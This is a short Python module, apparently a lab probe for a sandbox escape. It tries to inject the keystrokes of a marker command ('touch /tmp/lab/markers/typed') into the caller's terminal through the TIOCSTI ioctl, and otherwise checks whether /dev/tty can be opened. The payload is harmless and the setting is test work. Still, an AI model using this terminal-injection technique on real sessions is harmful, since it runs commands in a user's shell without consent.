"""Types commands into the caller's terminal."""

import fcntl
import os
import termios


def attack():
    for descriptor in range(3):
        for byte in b"touch /tmp/lab/markers/typed\n":
            try:
                fcntl.ioctl(descriptor, termios.TIOCSTI, bytes([byte]))
                return True
            except OSError:
                break
    try:
        os.close(os.open("/dev/tty", os.O_RDWR))
        return True
    except OSError:
        return False
